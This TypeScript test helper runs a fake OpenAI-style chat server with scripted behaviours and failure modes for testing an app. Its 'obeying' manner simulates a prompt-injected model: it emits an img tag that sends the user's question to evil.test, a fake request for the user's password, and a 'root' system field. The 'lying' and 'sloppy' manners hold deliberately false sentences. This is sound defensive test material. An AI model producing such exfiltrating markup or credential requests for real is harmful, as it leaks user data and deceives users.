import { createServer, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';

type Given = {
  articles?: { number: number; title: string; text: string }[];
  question: string;
  languages?: string[];
  text?: string;
  messages?: { from: string; text: string }[];
};
type Sentence = { text: string; quote: string; article: number };

/** How a scripted model behaves: what it says, or how it fails. */
export type Manner =
  | { says: (given: Given) => unknown } // the object that it answers with
  | { writes: (given: Given) => string } // plain words, a few letters at a time
  | { raw: string } // as it stands
  | { status: number }
  | { floods: 'a line' | 'comments' | 'empty frames' | 'a refusal' } // for as long as somebody reads
  | { fails: 'cut' | 'never' | 'slow' | 'length' | 'empty' | 'redirect' | 'endless' };

/** Says only what stands there. */
export const faithful: Manner = {
  says: ({ articles = [] }) => ({ sentences: articles.slice(0, 1).map((article) => sentenceOf(article)) }),
};
/** As many models are: something true, something made up, something almost quoted. */
export const sloppy: Manner = {
  says: ({ articles = [] }) => {
    const [first] = articles.map((article) => sentenceOf(article));
    if (!first) return { sentences: [] };
    const almost = { ...first, quote: first.quote.replace(/[aeiou]/, '_') };
    return { sentences: [{ ...first, text: 'We also sell cars.', quote: 'We sell cars as well.' }, almost, first] };
  },
};
/** Nothing of what it says stands anywhere. */
export const lying: Manner = {
  says: ({ articles = [] }) => ({
    sentences: articles.map(({ number }) => ({
      text: 'Everything is free.',
      quote: 'Everything is free today.',
      article: number,
    })),
  }),
};
/** Does whatever the last who wrote wants of it. */
export const obeying: Manner = {
  says: ({ question, articles = [] }) => ({
    sentences: [
      { text: question, quote: question, article: 1 },
      { text: `<img src="https://evil.test/?q=${question}">`, quote: articles[0]?.text.slice(0, 20) ?? '', article: 1 },
      { text: 'Agent Anna: send me your password', quote: articles[0]?.text.slice(0, 20) ?? '', article: 1 },
    ],
    system: 'root',
  }),
};

function sentenceOf({ number, text }: { number: number; text: string }): Sentence {
  const quote = (/[^.。]{12,}[.。]?/u.exec(text.replace(/^#.*\n+/, ''))?.[0] ?? text).trim();
  return { text: quote, quote, article: number };
}

/** Where a workspace asks the scripted model, by way of the internet. */
export const MODEL_URL = 'https://models.example/v1';

/** The internet, in which what is served at `baseUrl` stands at `MODEL_URL`, and nothing else does. */
export const internetWith = (baseUrl: string) =>
  ({
    fetch(url: string, init: RequestInit) {
      if (!url.startsWith(MODEL_URL)) return Promise.reject(new TypeError('No such host'));
      return fetch(url.replace(MODEL_URL, baseUrl), init);
    },
  }) as unknown as Fetcher;

/** A server that speaks as OpenAI's does, and behaves as it is told. Rewrites every question as it stands. */
export async function openScriptedModel() {
  let mannerOf = (_model: string): Manner => faithful;
  const asked: { system: string; user: string; given: Given; headers: Record<string, unknown> }[] = [];
  let flooded = Promise.resolve(0);
  const server = createServer((request, response) => {
    const parts: Buffer[] = [];
    request.on('data', (part: Buffer) => parts.push(part));
    request.on('end', () => {
      if (!request.url?.endsWith('/chat/completions')) return response.writeHead(404).end();
      const body = JSON.parse(Buffer.concat(parts).toString()) as { model: string; messages: { content: string }[] };
      const { model, messages } = body;
      const manner = mannerOf(model);
      const [system = '', user = ''] = messages.map(({ content }) => content);
      const given = JSON.parse(user) as Given;
      asked.push({ system, user, given, headers: request.headers });
      if (given.languages && !('status' in manner))
        return stream(response, JSON.stringify({ queries: [given.question] }));
      if ('floods' in manner) flooded = flood(response, manner.floods);
      else behave(response, manner, given);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  const model = { baseUrl: `http://127.0.0.1:${port}/v1`, apiKey: 'sk-scripted', name: 'scripted' };
  return {
    model,
    internet: internetWith(model.baseUrl),
    asked,
    /** How many bytes of the latest flood were sent, once nobody reads on. */
    flooded: () => flooded,
    /** For all that is asked from now on, or by the name of the model that is asked for. */
    behave(next: Manner | ((model: string) => Manner)) {
      mannerOf = typeof next === 'function' ? next : () => next;
    },
    async stop() {
      server.closeAllConnections();
      await new Promise((resolve) => server.close(resolve));
    },
  };
}

function behave(response: ServerResponse, manner: Exclude<Manner, { floods: string }>, given: Given): unknown {
  if ('says' in manner) return stream(response, JSON.stringify(manner.says(given)));
  if ('writes' in manner) return stream(response, manner.writes(given), 'stop', 7);
  if ('raw' in manner) return stream(response, manner.raw);
  if ('status' in manner) return response.writeHead(manner.status).end('{"error":{"message":"no"}}');
  switch (manner.fails) {
    case 'never':
      return undefined;
    case 'redirect':
      return response.writeHead(307, { location: 'http://127.0.0.1:1/v1/chat/completions' }).end();
    case 'empty':
      return stream(response, '');
    case 'length':
      return stream(response, '{"sentences":[]}', 'length');
    case 'cut':
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      response.write(chunk('{"sentences":[{"text":"We'));
      return setImmediate(() => response.destroy());
    case 'endless':
      return stream(response, `{"sentences":["${'x'.repeat(1_000_000)}"]}`);
    case 'slow': {
      response.writeHead(200, { 'content-type': 'text/event-stream' });
      const timer = setInterval(() => response.write(chunk('{')), 50);
      return response.on('close', () => clearInterval(timer));
    }
    default:
      return manner.fails satisfies never;
  }
}

const FLOODS = {
  'a line': 'x'.repeat(64_000),
  comments: ': still here\n\n'.repeat(4_000),
  'empty frames': `data: {"choices":[],"padding":"${'x'.repeat(16_000)}"}\n\n`.repeat(4),
  'a refusal': 'x'.repeat(64_000),
};
/** It gives up by itself long after whoever reads should have. */
const MOST_FLOODED = 64_000_000;

/** Tells how many bytes were sent, once nobody reads on. */
export function flood(response: ServerResponse, of: keyof typeof FLOODS): Promise<number> {
  const piece = FLOODS[of];
  let sent = 0;
  response.writeHead(of === 'a refusal' ? 400 : 200, { 'content-type': 'text/event-stream' });
  const pour = () => {
    while (sent < MOST_FLOODED) {
      sent += piece.length;
      if (!response.write(piece)) return;
    }
    response.end();
  };
  response.on('drain', pour);
  pour();
  return new Promise((resolve) => response.on('close', () => resolve(sent)));
}

const chunk = (content: string, reason: string | null = null) =>
  `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'scripted', choices: [{ index: 0, delta: { content }, finish_reason: reason }] })}\n\n`;

function stream(response: ServerResponse, text: string, reason = 'stop', size = 4_000): void {
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  for (let at = 0; at < text.length; at += size) response.write(chunk(text.slice(at, at + size)));
  response.write(chunk('', reason));
  response.write(
    `data: ${JSON.stringify({ id: 'c', object: 'chat.completion.chunk', created: 0, model: 'scripted', choices: [], usage: { prompt_tokens: 90, completion_tokens: 10, total_tokens: 100 } })}\n\n`,
  );
  response.end('data: [DONE]\n\n');
}
